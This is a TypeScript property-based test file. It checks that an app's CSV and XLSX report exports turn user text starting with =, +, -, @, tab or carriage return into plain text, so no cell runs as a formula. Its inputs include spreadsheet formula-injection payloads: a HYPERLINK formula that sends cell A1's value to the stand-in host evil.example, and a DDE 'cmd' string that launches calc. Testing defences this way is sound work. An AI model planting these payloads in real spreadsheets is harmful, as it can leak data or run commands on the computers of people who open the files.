import { describe, expect, test } from 'vitest';
import fc from 'fast-check';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { toCsv } from '../../src/app/ui/report/csv';
import { buildXlsx } from '../../src/app/ui/report/xlsx.chunk';
import { hostileString } from './arbitraries';

/**
 * Hostile input: formula injection (PS6; OWASP "CSV Injection"): free text typed by a filer or a
 * respondent ends up in the organizer's spreadsheet. Through the real export functions, every
 * cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is written as text: in
 * CSV with a leading `'` (a plain signed number such as `+72` or `-2.10` may stay a number: a
 * spreadsheet reads it as one, never as a formula); in XLSX as a string cell, read back with
 * exceljs: no cell is a formula, and every cell holds the text that was exported.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

const freeText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: hostileString.map((s) => s.slice(0, 500)) },
  { weight: 3, arbitrary: fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\t=', '\r=', '=-', '@@', '-+'), hostileString.map((s) => s.slice(0, 200))).map(([a, b]) => a + b) },
  { weight: 1, arbitrary: fc.constantFrom('=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", '+72', '-2.10', '-1+2', '@SUM(A1:A9)', '=1+1', '-', '+', '=', '@', '\t', '\r\n=1') },
);

// Sheet names are the app's own words (summary.sheet.*), never typed text.
// Text cells only: numbers are the app's own, never typed text.
const table: fc.Arbitrary<{ name: string; headers: string[]; rows: string[][] }> = fc.record({
  name: fc.constantFrom('指标', 'Figures', 'Repeat infringers', '设备'),
  headers: fc.array(freeText, { minLength: 1, maxLength: 5 }),
  rows: fc.array(fc.array(freeText, { minLength: 1, maxLength: 5 }), { maxLength: 5 }),
});

describe('[PS6] formula injection: every exported cell that could start a formula is text', () => {
  test('CSV: 1,000 tables of free text, every such cell prefixed with an apostrophe, the rest unchanged', () => {
    fc.assert(
      fc.property(table, fc.option(freeText, { nil: undefined }), (t, banner) => {
        const csv = toCsv(t, banner);
        expect(csv.startsWith('\uFEFF')).toBe(true);
        const parsed = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', delimiter: ',' });
        const cells = parsed.data.slice(0, banner === undefined ? 1 + t.rows.length : 2 + t.rows.length);
        const expected = [...(banner === undefined ? [] : [[banner]]), [...t.headers], ...t.rows.map((r) => [...r])];
        expect(cells).toHaveLength(expected.length);
        expected.forEach((row, i) =>
          row.forEach((cell, j) => {
            const original = cell;
            const written = cells[i]?.[j] ?? '';
            // A CSV reader drops a byte-order mark at the start of the file, so the first cell's own one is ambiguous.
            if (i === 0 && j === 0 && original.startsWith('\uFEFF')) return;
            if (FORMULA_START.test(original) && !PLAIN_NUMBER.test(original)) expect(written, JSON.stringify(original)).toBe(`'${original}`);
            else expect(written, JSON.stringify(original)).toBe(original);
            expect(FORMULA_START.test(written) && !PLAIN_NUMBER.test(written), JSON.stringify(written)).toBe(false);
          }),
        );
      }),
      { numRuns: 1000 },
    );
  });

  test('XLSX: 1,000 workbooks of free text read back with exceljs, no cell a formula, every cell the exported text', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uniqueArray(table, { minLength: 1, maxLength: 2, selector: (t) => t.name }), fc.option(freeText, { nil: undefined }), async (tables, banner) => {
        const data = await buildXlsx(tables, banner);
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.load(data);
        expect(wb.worksheets).toHaveLength(tables.length);
        tables.forEach((t, k) => {
          const sheet = wb.worksheets[k] as ExcelJS.Worksheet;
          const expected = [...(banner === undefined ? [] : [[banner]]), [...t.headers], ...t.rows.map((r) => [...r])];
          expected.forEach((row, i) =>
            row.forEach((original, j) => {
              const c = sheet.getRow(i + 1).getCell(j + 1);
              expect(c.type, JSON.stringify(original)).not.toBe(ExcelJS.ValueType.Formula);
              expect(c.formula, JSON.stringify(original)).toBeUndefined();
              // Text survives as text (XML cannot carry some control characters; those are dropped).
              expect(typeof c.value === 'string' || c.value === null, JSON.stringify(c.value)).toBe(true);
              expect(c.value ?? '', JSON.stringify(original)).toBe(xmlSafe(original));
            }),
          );
        });
      }),
      { numRuns: 1000 },
    );
  }, 240_000);
});

/**
 * What an XLSX can hold of a text: XML 1.0 has no C0 controls but tab, LF, CR, and no
 * U+FFFE/U+FFFF or lone surrogates; an XML reader turns CR LF and CR into LF.
 */
function xmlSafe(s: string): string {
  // eslint-disable-next-line no-control-regex
  return s.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\ufffe\uffff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '').replace(/\r\n?/g, '\n');
}
